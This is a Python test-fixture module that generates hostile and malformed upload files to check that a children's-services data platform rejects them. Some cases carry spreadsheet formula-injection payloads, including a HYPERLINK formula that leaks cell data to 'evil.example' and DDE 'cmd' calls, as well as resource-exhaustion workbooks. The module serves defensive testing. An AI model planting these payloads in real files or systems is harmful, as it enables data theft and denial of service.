"""A hostile corpus, generated: the files an attacker or a careless user sends, for every upload
path (council return, fostering pipeline, local provision, SSDA903 episodes), and the entry
points that take them. Shared by test_hostile_uploads.py, test_fuzz_uploads.py and bench/uploads.py."""
from __future__ import annotations

import codecs
import io
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd

KINDS = ["council_return", "pipeline", "local_provision", "ssda903"]

GOOD = {
    "council_return": {"council": "Torbay", "indicator": "cic_count", "period": "2026-03-31", "value": "300",
                       "status": "", "breakdown": "", "document": "Torbay quarterly return", "section": "Table 1",
                       "published": "2026-04-15", "note": ""},
    "pipeline": {"council": "Torbay", "period": "2026-Q1", "household_type": "mainstream", "enquiries": "30",
                 "initial_visits": "8", "applications": "4", "assessments_started": "3", "approvals": "2",
                 "deregistrations": "3", "deregistration_reasons": "retirement: 2", "transfers_in": "",
                 "transfers_out": "1", "note": "test row"},
    "local_provision": {"council": "Torbay", "period": "2025-12-31", "setting_type": "childrens_home",
                        "setting_name": "", "urn": "", "beds": "6", "occupied_own": "3", "occupied_other": "2",
                        "vacant": "1", "own_use_pct": "", "grade": "", "document": "Torbay register Q3",
                        "section": "", "published": "2026-01-10", "note": ""},
    "ssda903": {"CHILD": "A1", "DECOM": "01/04/2025", "RNE": "S", "LS": "C2", "CIN": "N1", "PLACE": "U4",
                "PLACE_PROVIDER": "PR1", "DEC": "", "REC": "", "REASON_PLACE_CHANGE": "", "HOME_POST": "BH1 1AA",
                "PL_POST": "BH1 1AE", "URN": "", "LA": "E06000058", "UASC": "N"},
}
#: Per kind: a free-text column, a number column, a count column (int4), a period column.
TEXT = {"council_return": "document", "pipeline": "note", "local_provision": "document", "ssda903": "CHILD"}
NUMBER = {"council_return": "value", "pipeline": "enquiries", "local_provision": "beds", "ssda903": None}
PERIOD = {"council_return": ("period", "2099-03-31", "9999-12-31", "1850-03-31"),
          "pipeline": ("period", "2099-01", "9999-Q4", "1850-Q1"),
          "local_provision": ("period", "2099-12-31", "9999-12-31", "1850-12-31"),
          "ssda903": ("DECOM", "31/12/9999", "2099-01-01", "01/01/1066")}


def rows_csv(rows: list[dict], encoding: str = "utf-8", columns: list[str] | None = None) -> bytes:
    columns = columns or list(rows[0])
    text = pd.DataFrame(rows, columns=columns).to_csv(index=False)
    return text.encode(encoding)


def good_rows(kind: str, n: int = 2) -> list[dict]:
    rows = []
    for i in range(n):
        row = dict(GOOD[kind])
        if kind == "council_return":
            row["indicator"] = ["cic_count", "uasc_count"][i % 2]
            row["period"] = f"{2026 - i // 2}-03-31"
        elif kind == "pipeline":
            row["period"] = f"2025-{i + 1:02d}" if i < 12 else f"2024-{i - 11:02d}"
        elif kind == "local_provision":
            row["setting_name"] = f"Home {i}"
        elif kind == "ssda903":
            row["CHILD"] = f"A{i}"
        rows.append(row)
    return rows


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    """A workbook; text starting with '=' is stored as text (as Excel does for a cell typed as text),
    so the formula text itself reaches the reader, not a cached value."""
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c, value=value)
            if isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


_CONTENT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_BOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
         '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
         'name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_BOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
              '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
              '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def raw_xlsx(path: Path, sheet_rows: Callable[[], object], dimension: str | None = None) -> Path:
    """A minimal workbook whose sheet XML is streamed from ``sheet_rows`` (bytes chunks): for
    sheets no spreadsheet program would write (inflated rows, a declared XFD1048576)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _BOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _BOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main">')
            if dimension:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for chunk in sheet_rows():
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def _inline_row(r: int, values: list[str]) -> bytes:
    cells = "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{r}">{cells}</row>'.encode()


def hostile_files(kind: str, folder: Path) -> list[tuple[str, Path]]:
    """(case, file) pairs, every one of which must be refused with a DataError."""
    folder.mkdir(parents=True, exist_ok=True)
    good = good_rows(kind)
    columns = list(good[0])
    cases: dict[str, bytes | Path] = {}

    def changed(**change) -> bytes:
        return rows_csv([good[0], {**good[1], **change}])

    text, number, (period, future, far, old) = TEXT[kind], NUMBER[kind], PERIOD[kind]
    cases["empty.csv"] = b""
    cases["header_only.csv"] = (",".join(columns) + "\n").encode()
    cases["random_bytes.csv"] = bytes(range(256)) * 8
    cases["binary_with_nul.csv"] = b"\x00\x01\x02PK\x00" * 500
    cases["xlsx_named_csv.csv"] = xlsx_bytes([columns, ["=1+1"] * len(columns)])
    cases["ragged_row.csv"] = rows_csv(good) + b"a,b,c," + b",".join([b"x"] * len(columns)) + b"\n"
    cases["nul_in_text.csv"] = changed(**{text: "abc\x00def"})
    cases["bell_in_text.csv"] = changed(**{text: "abc\x07def"})
    cases["one_mb_text.csv"] = changed(**{text: "x" * 1_000_000})
    cases["hundred_thousand_text.csv"] = changed(**{text: "Q" * 100_000})
    cases["unknown_column.csv"] = rows_csv([{**g, "valeu": "1"} for g in good])
    cases["future_period.csv"] = changed(**{period: future})
    cases["far_future_period.csv"] = changed(**{period: far})
    cases["ancient_period.csv"] = changed(**{period: old})
    cases["cp1252_undecodable.csv"] = b"\x81\x8d\x8f\x90\x9d," * 50 + b"\n"
    cases["utf16_no_bom_junk.csv"] = "\ufffe\u0000junk".encode("utf-16-le") * 20
    if kind != "ssda903":
        cases["formula_hyperlink.csv"] = changed(**{text: '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Source")'})
        cases["formula_cmd.csv"] = changed(**{text: "+cmd|' /C calc'!A0"})
        cases["formula_at.csv"] = changed(**{text: "@SUM(1+1)*cmd|' /C calc'!A0"})
        cases["missing_required.csv"] = rows_csv([{k: v for k, v in g.items() if k != "council"} for g in good])
        cases["unknown_council.csv"] = changed(council="Atlantis")
        cases["region_not_council.csv"] = changed(council="South West") if kind != "council_return" else \
            changed(indicator="not_an_indicator")
    if number:
        for label, value in (("1e308", "1e308"), ("inf", "inf"), ("Infinity", "Infinity"), ("nan", "nan"),
                             ("minus_inf", "-inf"), ("NaN", "NaN"), ("three_billion", "3,000,000,000"),
                             ("huge", "1" + "0" * 400), ("hex", "0x10"), ("words", "twelve")):
            cases[f"value_{label}.csv"] = changed(**{number: value})
    if kind == "council_return":
        cases["percentage_290.csv"] = changed(indicator="pct_placed_over_20_miles", value="290")
        cases["status_nan.csv"] = changed(value="nan", status="provisional")
        cases["one_mb_section.csv"] = changed(section="s" * 1_000_000)
        cases["long_section.csv"] = changed(section="s" * 5_000)
    if kind == "pipeline":
        cases["fraction.csv"] = changed(enquiries="1.5")
        cases["negative.csv"] = changed(enquiries="-1")
    if kind == "local_provision":
        cases["pct_290.csv"] = changed(own_use_pct="290")
        cases["pct_nan.csv"] = changed(own_use_pct="nan")
        cases["beds_inf.csv"] = changed(beds="inf", occupied_own="", occupied_other="", vacant="")
    if kind == "ssda903":
        cases["header_uask.csv"] = rows_csv([{("UASK" if k == "UASC" else k): v for k, v in g.items()} for g in good])
        cases["header_childd.csv"] = rows_csv([{("CHILDD" if k == "CHILD" else k): v for k, v in g.items()}
                                               for g in good])
        cases["bad_codes_only.csv"] = rows_csv([{**g, "PLACE": "=1+1", "LS": "@SUM"} for g in good])
        cases["no_rows.csv"] = rows_csv([{k: "" for k in columns}])
    cases["xls_file.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    cases["not_a_zip.xlsx"] = b"this is plain text named .xlsx\n"
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    cases["zip_not_workbook.xlsx"] = zipped.getvalue()
    cases["xlsx_unknown_column.xlsx"] = xlsx_bytes([columns + ["valeu"]] + [list(g.values()) + ["1"] for g in good])
    if kind != "ssda903":  # a CHILD is never stored or shown, only its keyed hash
        cases["xlsx_formula_text.xlsx"] = xlsx_bytes([columns] + [list(good[0].values()),
                                                                 [("=HYPERLINK(\"http://x\")" if c == text else v)
                                                                  for c, v in good[1].items()]])
    out: list[tuple[str, Path]] = []
    for case, content in cases.items():
        path = folder / f"{kind}_{case}"
        path.write_bytes(content)
        out.append((case, path))
    return out


def heavy_files(folder: Path) -> list[tuple[str, Path]]:
    """Files built to exhaust the reader (shared by every kind: they must be refused before parsing)."""
    folder.mkdir(parents=True, exist_ok=True)
    far_cell = raw_xlsx(folder / "xfd1048576.xlsx",
                        lambda: [_inline_row(1, ["council", "indicator", "period", "value"]),
                                 b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'],
                        dimension="A1:XFD1048576")
    no_dimension = raw_xlsx(folder / "xfd_no_dimension.xlsx",
                            lambda: [_inline_row(1, ["council", "indicator", "period", "value"]),
                                     b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'])

    def inflated():
        yield _inline_row(1, ["council", "indicator", "period", "value"])
        block = b"".join(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>'.encode() for r in range(2, 10_002))
        for _ in range(200):  # 2,000,000 rows
            yield block

    many_rows = raw_xlsx(folder / "two_million_rows.xlsx", inflated)

    def whitespace():
        yield _inline_row(1, ["council", "indicator", "period", "value"])
        yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        blank = b" " * (1 << 20)
        for _ in range(300):  # 300 MB of whitespace in one cell
            yield blank
        yield b"</t></is></c></row>"

    bomb = raw_xlsx(folder / "whitespace_bomb.xlsx", whitespace)
    return [("xlsx_cell_at_XFD1048576", far_cell), ("xlsx_far_cell_without_dimension", no_dimension),
            ("xlsx_two_million_rows", many_rows), ("xlsx_300MB_whitespace", bomb)]


def accepted_files(kind: str, folder: Path) -> list[tuple[str, Path]]:
    """Valid files in the encodings and shapes Excel writes: each must be accepted."""
    folder.mkdir(parents=True, exist_ok=True)
    good = good_rows(kind)
    if kind != "ssda903":
        good[0][TEXT[kind]] = good[0][TEXT[kind]] + " £ café"
    cases = {
        "utf8.csv": rows_csv(good),
        "utf8_bom.csv": codecs.BOM_UTF8 + rows_csv(good),
        "utf16.csv": rows_csv(good, "utf-16"),
        "cp1252.csv": rows_csv(good, "cp1252"),
        "crlf_trailing_commas.csv": rows_csv(good).replace(b"\n", b",,\r\n").replace(b",,\r\n", b"\r\n", 1),
        "workbook.xlsx": xlsx_bytes([list(good[0])] + [list(g.values()) for g in good]),
    }
    out = []
    for case, content in cases.items():
        path = folder / f"{kind}_ok_{case}"
        path.write_bytes(content)
        out.append((case, path))
    return out


def submit(kind: str, path: Path, engine):
    """The entry point a user's upload reaches for ``kind`` (the Data page's: ``regional.returns``),
    as a regional admin: the :class:`regional.returns.SubmitResult`, or DataError."""
    from regional import returns

    kinds = {"pipeline": "fostering_pipeline"}
    return returns.submit(kinds.get(kind, kind), path, engine, who=returns.Actor("hostile-test", "admin"),
                          council="E06000058" if kind == "ssda903" else None)


def upload(kind: str, path: Path, engine) -> int:
    """Rows stored by :func:`submit` (0 when the file repeats what is held), or DataError."""
    return submit(kind, path, engine).rows


def table_counts(engine) -> dict[str, int]:
    from sqlalchemy import func, select
    from sqlmodel import Session, SQLModel

    with Session(engine) as session:
        return {name: session.execute(select(func.count()).select_from(table)).scalar()
                for name, table in SQLModel.metadata.tables.items()}


def database_hash(engine) -> str:
    """A hash of every cell of every row of every table (order-independent: each row's cells are
    hashed as text and the row hashes summed), fast enough to take after every probe."""
    import hashlib

    from sqlalchemy import select
    from sqlmodel import SQLModel

    digest = hashlib.sha256()
    with engine.connect() as conn:
        for name in sorted(SQLModel.metadata.tables):
            frame = pd.read_sql(select(SQLModel.metadata.tables[name]), conn)
            for column in frame.columns[frame.dtypes == object]:  # a version's gzipped rows: bytes, as hex
                frame[column] = frame[column].map(lambda v: bytes(v).hex() if isinstance(v, (bytes, memoryview)) else v)
            total = int(pd.util.hash_pandas_object(frame.astype(str), index=False).sum()) if len(frame) else 0
            digest.update(f"{name}:{len(frame)}:{total};".encode())
    return digest.hexdigest()


class CommitWatch:
    """Whether anything has been committed to the database since the watch began, asked after
    every probe (a full :func:`database_hash` takes a second or two; this takes milliseconds).

    SQLite: ``PRAGMA data_version`` on a connection of the watch's own changes whenever any other
    connection commits a change. PostgreSQL: per table, the row count and the newest row
    version's transaction id (``xmin``): a committed insert or update makes a row version with a
    newer id, a committed delete lowers the count; rows of a rolled-back transaction are never seen.
    """

    def __init__(self, engine) -> None:
        from sqlmodel import SQLModel

        self.engine = engine
        self.tables = sorted(SQLModel.metadata.tables)
        self.connection = engine.connect()
        self.start = self._marker()

    def _marker(self) -> object:
        conn = self.connection
        if self.engine.dialect.name == "sqlite":
            marker = conn.exec_driver_sql("PRAGMA data_version").scalar()
        else:
            quote = self.engine.dialect.identifier_preparer.quote
            marker = conn.exec_driver_sql(" UNION ALL ".join(
                f"SELECT '{name}', count(*), coalesce(max(xmin::text::bigint), 0) FROM {quote(name)}"
                for name in self.tables)).all()
        conn.rollback()  # end the read transaction: the next question sees a fresh snapshot
        return marker

    def changed(self) -> bool:
        return self._marker() != self.start

    def close(self) -> None:
        self.connection.close()


class PeakMemory:
    """Peak resident memory above the start, sampled every 5 ms while the block runs."""

    def __init__(self) -> None:
        from regional.importers.reader import resident_mb

        self._rss = resident_mb
        self.base = resident_mb()
        self.peak = self.base
        self._stop = threading.Event()

    def __enter__(self) -> PeakMemory:
        self.started = time.perf_counter()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()
        return self

    def _sample(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self._rss())
            self._stop.wait(0.005)

    def __exit__(self, *exc) -> None:
        self.seconds = time.perf_counter() - self.started
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self._rss())

    @property
    def grown_mb(self) -> float:
        return self.peak - self.base


__all__ = ["KINDS", "hostile_files", "heavy_files", "accepted_files", "submit", "upload", "table_counts", "database_hash", "CommitWatch",
           "PeakMemory"]
